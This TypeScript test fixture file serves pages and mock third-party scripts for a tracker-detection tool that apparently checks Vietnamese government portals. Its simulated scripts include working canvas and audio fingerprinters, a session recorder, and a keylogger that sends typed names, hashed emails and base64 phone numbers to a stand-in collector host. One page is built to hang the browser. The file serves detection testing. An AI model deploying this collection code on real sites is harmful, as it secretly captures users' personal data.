// Fixture pages for trackers found by what they do (src/checks/evidence/behaviour/): for each
// behaviour a page that must fail and a twin that must pass, on https://kiemthu.sandbox/hanh-vi/,
// and the scripts and endpoints of the third parties they load, served on stand-in hosts
// (hosts.ts): thuthap.sandbox (a collector no list knows), static.hotjar.com,
// connect.facebook.net, www.facebook.com and www.google-analytics.com.
import { createHash } from 'node:crypto';
import { fixturePage } from './fixture-page.ts';
import { GIF_1X1, type SiteResponse } from './sites.ts';

/** Paths of the behaviour fixtures on the fixtures host, by what they show. */
export const BEHAVIOUR_PAGES = {
  canvasFingerprint: '/hanh-vi/van-tay-canvas',
  canvasChart: '/hanh-vi/bieu-do-canvas',
  audioFingerprint: '/hanh-vi/van-tay-am-thanh',
  audioBeep: '/hanh-vi/am-bao',
  sessionRecording: '/hanh-vi/ghi-phien',
  hotjar: '/hanh-vi/hotjar',
  clickListener: '/hanh-vi/mot-su-kien-nhan',
  keylogger: '/hanh-vi/ghi-phim',
  normalForm: '/hanh-vi/bieu-mau-thuong',
  identifierCookie: '/hanh-vi/cookie-dinh-danh',
  flagCookie: '/hanh-vi/cookie-co',
  measurement: '/hanh-vi/do-luong',
  ordinaryImage: '/hanh-vi/anh-thuong',
  /** Hostile: typing into its field blocks the page for good (a synchronous request that never ends). */
  stuckField: '/hanh-vi/o-nhap-treo',
} as const;

/** The collector no list knows, and the well-known hosts the fixtures load. */
export const COLLECTOR_HOST = 'thuthap.sandbox';
const COLLECTOR = `https://${COLLECTOR_HOST}`;

const HTML = 'text/html; charset=utf-8';
const JS = 'text/javascript; charset=utf-8';
// The pages run inline scripts and load third parties; framing by others is refused.
const CSP = "default-src 'self' https: data: 'unsafe-inline'; frame-ancestors 'none'";

const page = (title: string, body: string): SiteResponse => fixturePage(title, body, { csp: CSP, style: ' input:focus { outline: 3px solid #b35900; }' });

const js = (body: string): SiteResponse => ({ status: 200, headers: { 'content-type': JS, 'access-control-allow-origin': '*', 'cache-control': 'no-store' }, body });
const gif = (headers: Record<string, string | string[]> = {}): SiteResponse => ({ status: 200, headers: { 'content-type': 'image/gif', 'cache-control': 'no-store', ...headers }, body: GIF_1X1 });
const noContent = (): SiteResponse => ({ status: 204, headers: { 'access-control-allow-origin': '*', 'cache-control': 'no-store' }, body: '' });

const FIELDS = `<form action="/gui" method="post">
<p><label for="ho-ten">Họ và tên</label> <input id="ho-ten" name="ho_ten" type="text" autocomplete="name"></p>
<p><label for="thu">Thư điện tử</label> <input id="thu" name="email" type="email" autocomplete="email"></p>
<p><label for="dien-thoai">Số điện thoại</label> <input id="dien-thoai" name="dien_thoai" type="tel" autocomplete="tel"></p>
<p><button type="submit">Gửi hồ sơ</button></p>
</form>`;

/** The pages on the fixtures host, or null for a path that is not one of them. */
export function behaviourFixture(path: string): SiteResponse | null {
  const P = BEHAVIOUR_PAGES;
  switch (path) {
    case P.canvasFingerprint:
      return page('Vân tay canvas', `<p>Trang nạp một tập lệnh của bên thứ ba vẽ chữ lên canvas ẩn rồi đọc lại ảnh.</p>
<script src="${COLLECTOR}/van-tay.js"></script>`);
    case P.canvasChart:
      // A chart drawn for people and never read back; a photo scaled on a canvas and read back
      // (images only); a tiny canvas with text read back (below 16x16): none is a fingerprint.
      return page('Biểu đồ hồ sơ', `<p>Số hồ sơ trực tuyến theo tháng.</p>
<canvas id="bieu-do" width="400" height="200" role="img" aria-label="Biểu đồ cột số hồ sơ theo tháng"></canvas>
<canvas id="anh-nho" width="64" height="64" aria-hidden="true"></canvas>
<canvas id="ma-nho" width="12" height="12" aria-hidden="true"></canvas>
<script>
(function () {
  var c = document.getElementById('bieu-do').getContext('2d');
  var data = [120, 180, 150, 210];
  var colours = ['#00457c', '#1b6fae', '#3c8dcf', '#6aaee6'];
  data.forEach(function (v, i) {
    c.fillStyle = colours[i];
    c.fillRect(20 + i * 90, 190 - v * 0.8, 60, v * 0.8);
    c.fillStyle = '#1a1a1a';
    c.fillText('Tháng ' + (i + 1) + ': ' + v, 20 + i * 90, 20);
  });
  var img = new Image();
  img.onload = function () {
    var a = document.getElementById('anh-nho');
    a.getContext('2d').drawImage(img, 0, 0, 64, 64);
    a.toDataURL('image/png');
  };
  img.src = '/assets/diem.gif';
  var t = document.getElementById('ma-nho').getContext('2d');
  t.fillStyle = '#f60'; t.fillText('Mã xác nhận 0123456789', 0, 10);
  t.fillStyle = '#069'; t.fillText('Mã xác nhận 0123456789', 1, 11);
  t.canvas.toDataURL();
})();
</script>`);
    case P.audioFingerprint:
      return page('Vân tay âm thanh', `<p>Trang nạp một tập lệnh của bên thứ ba dựng âm thanh không ai nghe rồi đo kết quả.</p>
<script src="${COLLECTOR}/am-thanh.js"></script>`);
    case P.audioBeep:
      // A notification beep: an oscillator to the speakers, nothing measured.
      return page('Âm báo', `<p>Trang phát một tiếng bíp ngắn khi có thông báo.</p>
<script>
(function () {
  try {
    var ctx = new (window.AudioContext || window.webkitAudioContext)();
    var o = ctx.createOscillator();
    o.frequency.value = 880;
    o.connect(ctx.destination);
    o.start();
    o.stop(ctx.currentTime + 0.1);
  } catch (e) { /* no audio */ }
})();
</script>`);
    case P.sessionRecording:
      return page('Ghi lại phiên', `<p>Trang nạp một tập lệnh ghi lại mọi thao tác của người dùng và gửi về máy chủ của bên thứ ba.</p>
${FIELDS.replace('action="/gui"', 'action="/gui-phien"')}
<script src="${COLLECTOR}/ghi-phien.js"></script>`);
    case P.hotjar:
      return page('Hotjar', `<p>Trang dùng đoạn mã nhúng của một dịch vụ ghi phiên nổi tiếng.</p>
<script>
(function (h, o, t, j) {
  h.hj = h.hj || function () { (h.hj.q = h.hj.q || []).push(arguments); };
  h._hjSettings = { hjid: 3141592, hjsv: 6 };
  var s = o.createElement('script'); s.async = 1;
  s.src = t + h._hjSettings.hjid + j + h._hjSettings.hjsv;
  o.head.appendChild(s);
})(window, document, 'https://static.hotjar.com/c/hotjar-', '.js?sv=');
</script>`);
    case P.clickListener:
      // One ordinary listener: a button that shows a hint.
      return page('Một sự kiện nhấn', `<p>Nút dưới đây hiện hướng dẫn khi được nhấn.</p>
<button type="button" id="huong-dan">Xem hướng dẫn</button>
<p id="goi-y" hidden>Chuẩn bị bản sao căn cước trước khi nộp hồ sơ.</p>
<script>document.getElementById('huong-dan').addEventListener('click', function () { document.getElementById('goi-y').hidden = false; });</script>`);
    case P.keylogger:
      // Each field's value leaves on input, before any submit: in the address, hashed, in base64.
      // The search box suggests from the portal itself (first party, not a finding).
      return page('Biểu mẫu gửi trước khi bấm', `<p>Trang gửi nội dung các trường cho bên thứ ba ngay khi đang gõ.</p>
${FIELDS}
<p><label for="tim">Tìm thủ tục</label> <input id="tim" name="q" type="search"></p>
<script>
(function () {
  var box = document.getElementById('tim');
  var t;
  box.addEventListener('input', function () { clearTimeout(t); t = setTimeout(function () { fetch('/hanh-vi/goi-y?q=' + encodeURIComponent(box.value)); }, 100); });
})();
</script>
<script src="${COLLECTOR}/ghi-phim.js"></script>`);
    case '/hanh-vi/goi-y':
      return { status: 200, headers: { 'content-type': 'application/json; charset=utf-8', 'cache-control': 'no-store' }, body: '[]' };
    case P.normalForm:
      return page('Biểu mẫu thông thường', `<p>Biểu mẫu chỉ gửi khi người dùng bấm nút Gửi hồ sơ.</p>
${FIELDS}`);
    case P.identifierCookie:
      return page('Cookie định danh của bên thứ ba', `<p>Trang nạp một điểm ảnh, một tập lệnh và một khung của bên thứ ba lưu mã định danh trình duyệt.</p>
<img src="${COLLECTOR}/dinh-danh.gif" alt="" width="1" height="1">
<script src="${COLLECTOR}/luu-tru.js?kieu=dinh-danh"></script>
<iframe src="${COLLECTOR}/khung-cookie?kieu=dinh-danh" title="Tiện ích của bên thứ ba" width="300" height="60"></iframe>`);
    case P.flagCookie:
      return page('Cookie lựa chọn của bên thứ ba', `<p>Trang nạp một điểm ảnh, một tập lệnh và một khung của bên thứ ba chỉ lưu lựa chọn.</p>
<img src="${COLLECTOR}/lua-chon.gif" alt="" width="1" height="1">
<script src="${COLLECTOR}/luu-tru.js?kieu=lua-chon"></script>
<iframe src="${COLLECTOR}/khung-cookie?kieu=lua-chon" title="Tiện ích của bên thứ ba" width="300" height="60"></iframe>`);
    case P.measurement:
      // The pixel through its script, GA4 straight from the page, and a Matomo the portal hosts itself.
      return page('Đo lường theo dạng yêu cầu', `<p>Trang gửi lệnh gọi đo lường cho Facebook, Google Analytics và Matomo tự lưu trữ.</p>
<script src="https://connect.facebook.net/en_US/fbevents.js"></script>
<img src="https://www.google-analytics.com/g/collect?v=2&amp;tid=G-KT12345678&amp;cid=555.1700000000&amp;en=page_view" alt="" width="1" height="1">
<img src="/matomo.php?idsite=3&amp;rec=1&amp;action_name=Trang%20ch%E1%BB%A7" alt="" width="1" height="1">`);
    case P.ordinaryImage:
      // Ordinary images, one of them under a path ending in /collect, without a measurement call's parameters.
      return page('Ảnh thông thường', `<p>Trang chỉ có ảnh của chính cổng.</p>
<img src="/assets/diem.gif" alt="Điểm ảnh minh họa" width="16" height="16">
<img src="/thu-vien/collect?trang=2" alt="Ảnh thư viện" width="16" height="16">`);
    case P.stuckField:
      return page('Ô nhập treo trang', `<p>Gõ vào ô dưới đây làm trang treo: nó chờ một yêu cầu không bao giờ xong.</p>
<p><label for="ma">Mã hồ sơ</label> <input id="ma" name="ma" type="text"></p>
<script>
document.getElementById('ma').addEventListener('input', function () {
  var x = new XMLHttpRequest();
  x.open('GET', '/doc-hai/khong-bao-gio-xong', false);
  try { x.send(); } catch (e) {}
});
</script>`);
    case '/matomo.php':
    case '/thu-vien/collect':
      return gif();
    default:
      return null;
  }
}

const CANVAS_JS = `/* Tập lệnh lấy vân tay canvas (mô phỏng). */
(function () {
  var origin = new URL(document.currentScript.src).origin;
  var c = document.createElement('canvas');
  c.width = 240; c.height = 60;
  var x = c.getContext('2d');
  x.textBaseline = 'top';
  x.font = "14px 'Arial'";
  x.fillStyle = '#f60';
  x.fillRect(125, 1, 62, 20);
  x.fillStyle = '#069';
  x.fillText('Cwm fjordbank glyphs vext quiz, 😃', 2, 15);
  x.fillStyle = 'rgba(102, 204, 0, 0.7)';
  x.fillText('Cwm fjordbank glyphs vext quiz, 😃', 4, 17);
  var data = c.toDataURL();
  var h = 0;
  for (var i = 0; i < data.length; i++) h = (h * 31 + data.charCodeAt(i)) | 0;
  new Image().src = origin + '/van-tay/kq?h=' + (h >>> 0).toString(16);
})();
`;

const AUDIO_JS = `/* Tập lệnh lấy vân tay âm thanh (mô phỏng). */
(function () {
  var origin = new URL(document.currentScript.src).origin;
  var Ctx = window.OfflineAudioContext || window.webkitOfflineAudioContext;
  if (!Ctx) return;
  var ctx = new Ctx(1, 5000, 44100);
  var osc = ctx.createOscillator();
  osc.type = 'triangle';
  osc.frequency.value = 10000;
  var comp = ctx.createDynamicsCompressor();
  comp.threshold.value = -50; comp.knee.value = 40; comp.ratio.value = 12; comp.attack.value = 0; comp.release.value = 0.25;
  osc.connect(comp);
  comp.connect(ctx.destination);
  osc.start(0);
  ctx.startRendering().then(function (buffer) {
    var d = buffer.getChannelData(0);
    var s = 0;
    for (var i = 4500; i < 5000; i++) s += Math.abs(d[i]);
    new Image().src = origin + '/am-thanh/kq?h=' + s.toFixed(6);
  });
})();
`;

// A session recorder in miniature: every kind of input on the whole document, every change of
// it, sent in batches.
const RECORDER_JS = `/* Tập lệnh ghi lại phiên (mô phỏng). */
(function () {
  var origin = new URL(document.currentScript.src).origin;
  var events = [];
  ['mousemove', 'mousedown', 'mouseup', 'click', 'scroll', 'keydown', 'keyup', 'input', 'change', 'focus', 'blur', 'resize'].forEach(function (t) {
    (t === 'resize' ? window : document).addEventListener(t, function (e) {
      if (events.length < 500) events.push({ t: t, x: e.clientX, y: e.clientY, v: e.target && e.target.value, ts: Date.now() });
    }, true);
  });
  new MutationObserver(function (m) { if (events.length < 500) events.push({ t: 'mutation', n: m.length }); })
    .observe(document, { childList: true, subtree: true, attributes: true, characterData: true });
  var send = function (kind, body) { try { navigator.sendBeacon(origin + kind, JSON.stringify(body)); } catch (e) {} };
  send('/ghi-phien/anh-chup', { size: document.documentElement.outerHTML.length });
  setInterval(function () { if (events.length) send('/ghi-phien/lo', events.splice(0)); }, 2000);
})();
`;

// A keylogger: on input, each field's value leaves at once; the e-mail address hashed as
// advertising pixels hash it, the telephone number in base64.
const KEYLOGGER_JS = `/* Tập lệnh gửi nội dung trường khi đang gõ (mô phỏng). */
(function () {
  var origin = new URL(document.currentScript.src).origin;
  var hex = function (buf) { return Array.prototype.map.call(new Uint8Array(buf), function (b) { return ('0' + b.toString(16)).slice(-2); }).join(''); };
  Array.prototype.forEach.call(document.querySelectorAll('form input'), function (el) {
    var t;
    el.addEventListener('input', function () {
      clearTimeout(t);
      t = setTimeout(function () {
        var v = el.value;
        if (el.type === 'email') {
          crypto.subtle.digest('SHA-256', new TextEncoder().encode(v.trim().toLowerCase())).then(function (h) {
            fetch(origin + '/ghi-phim/em', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ em: hex(h) }) });
          });
        } else if (el.type === 'tel') {
          navigator.sendBeacon(origin + '/ghi-phim/dt', btoa(JSON.stringify({ ph: v })));
        } else {
          new Image().src = origin + '/ghi-phim/k?f=' + encodeURIComponent(el.name) + '&v=' + encodeURIComponent(v);
        }
      }, 100);
    });
  });
})();
`;

const HOTJAR_JS = RECORDER_JS.replace('Tập lệnh ghi lại phiên (mô phỏng)', 'Hotjar (mô phỏng)');

const FBEVENTS_JS = `/* Facebook Pixel (mô phỏng). */
(function () {
  new Image().src = 'https://www.facebook.com/tr?id=1234567890123456&ev=PageView&dl=' + encodeURIComponent(location.href) + '&noscript=1';
})();
`;

/** The identifiers the third party hands out (fixed, so a test can check no evidence holds them). */
const idFor = (what: string, length: number) => createHash('sha256').update(`dvc-monitor behaviour fixture ${what}`).digest('base64').replace(/[+/=]/g, 'x').slice(0, length);
export const FIXTURE_IDENTIFIERS = { cookie: idFor('cookie', 32), frameCookie: idFor('frame cookie', 22), storage: idFor('storage', 16) } as const;

/**
 * A third party's script in the page keeping something in the portal's storage, or its frame
 * writing a cookie of its own (the test browser refuses third-party cookies; the attempt is
 * what counts): an identifier, or only preferences.
 */
function storageScript(kind: string | null): SiteResponse {
  return js(kind === 'dinh-danh'
    ? `try { localStorage.setItem('tt_device', '${FIXTURE_IDENTIFIERS.storage}'); } catch (e) {}\n`
    : `try { localStorage.setItem('tt_theme', 'dark'); localStorage.setItem('tt_last_visit', '2024-05-01'); } catch (e) {}\n`);
}

function cookieFrame(kind: string | null): SiteResponse {
  const write = kind === 'dinh-danh' ? `'tt_frame=${FIXTURE_IDENTIFIERS.frameCookie}` : `'tt_frame_pref=dark`;
  return {
    status: 200,
    headers: { 'content-type': HTML, 'cache-control': 'no-store' },
    body: `<!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>Tiện ích</title></head><body><p>Tiện ích của bên thứ ba.</p>
<script>document.cookie = ${write}; Path=/; Max-Age=31536000; SameSite=None; Secure';</script></body></html>
`,
  };
}

const COOKIE = 'Path=/; Max-Age=31536000; SameSite=None; Secure';

/** What the third-party stand-ins answer for the behaviour fixtures, or null (the host's own handler then answers). */
export function behaviourThirdParty(host: string, path: string, query: URLSearchParams): SiteResponse | null {
  if (host === COLLECTOR_HOST) {
    switch (path) {
      case '/van-tay.js': return js(CANVAS_JS);
      case '/am-thanh.js': return js(AUDIO_JS);
      case '/ghi-phien.js': return js(RECORDER_JS);
      case '/ghi-phim.js': return js(KEYLOGGER_JS);
      case '/dinh-danh.gif': return gif({ 'set-cookie': `tt_uid=${FIXTURE_IDENTIFIERS.cookie}; ${COOKIE}` });
      case '/lua-chon.gif': return gif({ 'set-cookie': [`consent=false; ${COOKIE}`, `tt_lang=vi-VN; ${COOKIE}`, `tt_seen=1700000000; ${COOKIE}`] });
      case '/khung-cookie': return cookieFrame(query.get('kieu'));
      case '/luu-tru.js': return storageScript(query.get('kieu'));
      default:
        return path.endsWith('.gif') || /\/kq$|\/k$/.test(path) ? gif() : noContent();
    }
  }
  if (host === 'static.hotjar.com') return /^\/c\/hotjar-\d+\.js$/.test(path) ? js(HOTJAR_JS) : noContent();
  if (host === 'connect.facebook.net') return path.endsWith('/fbevents.js') ? js(FBEVENTS_JS) : null;
  if (host === 'www.facebook.com') return path === '/tr' || path === '/tr/' ? gif() : null;
  if (host === 'www.google-analytics.com') return path === '/g/collect' ? noContent() : null;
  return null;
}
